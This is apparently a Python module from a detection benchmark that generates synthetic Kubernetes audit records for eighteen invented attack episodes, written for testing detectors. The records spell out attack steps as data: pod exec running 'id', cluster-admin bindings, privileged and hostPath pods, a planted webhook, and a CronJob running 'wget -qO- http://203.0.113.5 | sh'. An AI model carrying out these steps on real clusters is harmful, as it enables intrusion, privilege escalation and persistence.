"""Eighteen kinds of suspicious episode for the made-up cluster, each a few records that belong together.

Invented, and visible by construction: good for ratios and regressions, no proof of quality on real attacks. The list
`EPISODES` holds them by name; each gets a `Scene` and yields records.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from typing import Any

import msgspec

from riverwatch.bench import load_records, load_world

OUTSIDE = "203.0.113"
"""Network from which nobody works (reserved for documentation)."""

RBAC = "rbac.authorization.k8s.io"
STEP_S = 0.4
"""Seconds between two records of an episode."""


class Scene(msgspec.Struct):
    """Where an episode takes place."""

    world: load_world.World
    who: load_world.Identity
    person: load_world.Identity
    rng: random.Random
    time_s: float
    steps: int
    """Length of those episodes that repeat something."""

    def does(self, verb: str, resource: str, *, by: load_world.Identity | None = None, **more: Any) -> dict[str, Any]:
        """Make the next record."""
        self.time_s += STEP_S
        return load_records.record(
            by or self.who, verb=verb, resource=resource, time_s=self.time_s, rng=self.rng, **more
        )

    def elsewhere(self) -> str:
        """Return a namespace that is not the actor's."""
        return self.rng.choice([one for one in self.world.namespaces if one != self.who.namespace] or ["default"])


Episode = Callable[[Scene], Iterator[dict[str, Any]]]


def _exec(scene: Scene) -> Iterator[dict[str, Any]]:
    where = scene.elsewhere()
    for _ in range(2):
        query = "?command=sh&command=-c&command=id&stdin=true&tty=true"
        yield scene.does("get", "pods", subresource="exec", namespace=where, name="api-0", code=101, query=query)


def _debug(scene: Scene) -> Iterator[dict[str, Any]]:
    body = {"spec": {"ephemeralContainers": [{"name": "debugger", "image": "busybox", "targetContainerName": "main"}]}}
    for _ in range(2):
        yield scene.does(
            "patch",
            "pods",
            subresource="ephemeralcontainers",
            namespace=scene.elsewhere(),
            name="api-0",
            level="Request",
            body=body,
        )


def _port_forward(scene: Scene) -> Iterator[dict[str, Any]]:
    for _ in range(2):
        yield scene.does(
            "create", "pods", subresource="portforward", namespace=scene.elsewhere(), name="db-0", code=101
        )


def _anonymous(scene: Scene) -> Iterator[dict[str, Any]]:
    nobody = load_world.Identity(
        username="system:anonymous",
        uid="",
        groups=("system:unauthenticated",),
        agent="curl/8.5.0",
        addresses=(f"{OUTSIDE}.9",),
        habits=(),
    )
    for resource in ("pods", "secrets", "configmaps"):
        yield scene.does("list", resource, by=nobody, namespace=scene.elsewhere())


def _node_proxy(scene: Scene) -> Iterator[dict[str, Any]]:
    for _ in range(2):
        node = scene.rng.choice(scene.world.nodes)
        yield scene.does("get", "nodes", subresource="proxy", name=node, query="/run/default/web-0/main?cmd=id")


def _stolen_token(scene: Scene) -> Iterator[dict[str, Any]]:
    for _ in range(scene.steps):
        habit = scene.rng.choice(scene.who.habits)
        yield scene.does(
            habit.verb,
            habit.resource,
            group=habit.group,
            subresource=habit.subresource,
            namespace=scene.who.namespace,
            name=scene.rng.choice(habit.names),
            address=f"{OUTSIDE}.77",
            agent="curl/8.5.0",
        )


def _probing(scene: Scene) -> Iterator[dict[str, Any]]:
    resources = ("secrets", "pods", "nodes", "deployments", "clusterroles", "configmaps", "jobs", "serviceaccounts")
    for _ in range(scene.steps):
        yield scene.does(
            scene.rng.choice(("list", "create", "delete")),
            scene.rng.choice(resources),
            namespace=scene.elsewhere(),
            code=403,
        )


def _secret_sweep(scene: Scene) -> Iterator[dict[str, Any]]:
    for _ in range(scene.steps):
        yield scene.does("list", "secrets", namespace=scene.elsewhere())


def _admin_binding(scene: Scene) -> Iterator[dict[str, Any]]:
    body = {
        "kind": "ClusterRoleBinding",
        "metadata": {"name": "ops-temp"},
        "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": scene.who.name, "namespace": scene.who.namespace}],
    }
    yield scene.does(
        "create", "clusterrolebindings", group=RBAC, name="ops-temp", code=201, level="RequestResponse", body=body
    )


def _wildcard_role(scene: Scene) -> Iterator[dict[str, Any]]:
    rule = {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}
    body = {"kind": "ClusterRole", "metadata": {"name": "helper"}, "rules": [rule]}
    yield scene.does("create", "clusterroles", group=RBAC, name="helper", code=201, level="RequestResponse", body=body)


def _pod_with(scene: Scene, spec: dict[str, Any]) -> Iterator[dict[str, Any]]:
    where = scene.elsewhere()
    body = load_records.pod(where, "tool", scene.rng, **spec)
    yield scene.does("create", "pods", namespace=where, name="tool", code=201, level="RequestResponse", body=body)


def _privileged(scene: Scene) -> Iterator[dict[str, Any]]:
    container = {"name": "main", "image": "alpine", "securityContext": {"privileged": True}}
    yield from _pod_with(scene, {"containers": [container]})


def _host_path(scene: Scene) -> Iterator[dict[str, Any]]:
    yield from _pod_with(scene, {"volumes": [{"name": "root", "hostPath": {"path": "/", "type": "Directory"}}]})


def _host_namespaces(scene: Scene) -> Iterator[dict[str, Any]]:
    yield from _pod_with(scene, {"hostPID": True, "hostNetwork": True})


def _wipe(scene: Scene) -> Iterator[dict[str, Any]]:
    where = scene.elsewhere()
    for number in range(scene.steps):
        resource, group = scene.rng.choice((("deployments", "apps"), ("configmaps", ""), ("services", "")))
        yield scene.does("delete", resource, group=group, by=scene.person, namespace=where, name=f"thing-{number}")


def _minted_token(scene: Scene) -> Iterator[dict[str, Any]]:
    for account in ("cluster-admin", "deployer"):
        yield scene.does(
            "create", "serviceaccounts", subresource="token", namespace="kube-system", name=account, code=201
        )


def _planted_webhook(scene: Scene) -> Iterator[dict[str, Any]]:
    hook = {"name": "a.example.com", "clientConfig": {"url": "https://203.0.113.5/"}, "failurePolicy": "Ignore"}
    yield scene.does(
        "create",
        "mutatingwebhookconfigurations",
        group="admissionregistration.k8s.io",
        name="helper",
        code=201,
        level="RequestResponse",
        body={"kind": "MutatingWebhookConfiguration", "metadata": {"name": "helper"}, "webhooks": [hook]},
    )


def _cron_job(scene: Scene) -> Iterator[dict[str, Any]]:
    container = {"name": "main", "image": "alpine", "command": ["sh", "-c", "wget -qO- http://203.0.113.5 | sh"]}
    template = {"spec": {"template": {"spec": {"containers": [container], "restartPolicy": "Never"}}}}
    body = {"kind": "CronJob", "metadata": {"name": "sync"}, "spec": {"schedule": "* * * * *", "jobTemplate": template}}
    yield scene.does(
        "create", "cronjobs", group="batch", namespace="kube-system", name="sync", code=201, level="Request", body=body
    )


def _impersonation(scene: Scene) -> Iterator[dict[str, Any]]:
    for resource in ("secrets", "clusterrolebindings"):
        yield scene.does(
            "list",
            resource,
            by=scene.person,
            impersonated={"username": "admin", "groups": ["system:masters", "system:authenticated"]},
        )


EPISODES: dict[str, Episode] = {
    "exec": _exec,
    "debug": _debug,
    "port_forward": _port_forward,
    "anonymous": _anonymous,
    "node_proxy": _node_proxy,
    "stolen_token": _stolen_token,
    "probing": _probing,
    "secret_sweep": _secret_sweep,
    "admin_binding": _admin_binding,
    "wildcard_role": _wildcard_role,
    "privileged": _privileged,
    "host_path": _host_path,
    "host_namespaces": _host_namespaces,
    "wipe": _wipe,
    "minted_token": _minted_token,
    "planted_webhook": _planted_webhook,
    "cron_job": _cron_job,
    "impersonation": _impersonation,
}
"""Kind -> what makes its records."""
